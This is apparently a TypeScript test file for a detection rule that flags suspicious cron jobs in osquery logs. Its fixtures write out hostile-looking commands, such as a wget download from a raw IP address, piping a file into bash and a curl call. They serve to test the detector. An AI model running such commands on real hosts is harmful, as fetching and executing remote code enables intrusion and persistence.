import { RuleTest } from "@pypanther/core";
import { OsquerySuspiciousCron } from "../src/osquery-suspicious-cron";

const job = {
  p_log_type: "Osquery.Differential",
  name: "pack_incident-response_crontab",
  action: "added",
  hostIdentifier: "mac-0092.harbour.example",
  columns: { command: "wget -q https://203.0.113.5/x -O /opt/x" },
};
const command = (text: string) => ({ ...job, columns: { command: text } });

export const tests = [
  new RuleTest({
    name: "a job fetches a file",
    expectedResult: true,
    log: job,
    expectedTitle: "Suspicious cron job on [mac-0092.harbour.example]",
  }),
  new RuleTest({ name: "a job runs from /tmp", expectedResult: true, log: command("/tmp/.x/run") }),
  new RuleTest({ name: "a job pipes into a shell", expectedResult: true, log: command("cat /opt/a | bash") }),
  new RuleTest({ name: "a job hands a text to a shell", expectedResult: true, log: command("bash -c ls") }),
  new RuleTest({
    name: "an apostrophe does not hide it",
    expectedResult: true,
    log: command("echo it's done; curl a.example"),
  }),
  new RuleTest({ name: "the action does not matter", expectedResult: true, log: { ...job, action: "snapshot" } }),
  new RuleTest({
    name: "a harmless job",
    expectedResult: false,
    log: command("/usr/sbin/logrotate /etc/logrotate.conf"),
  }),
  new RuleTest({ name: "a command that cannot be split", expectedResult: false, log: command('echo "a | bash') }),
  new RuleTest({ name: "no command", expectedResult: false, log: command("") }),
  new RuleTest({ name: "another query", expectedResult: false, log: { ...job, name: "pack_incident-response_last" } }),
];

export { OsquerySuspiciousCron as rule };
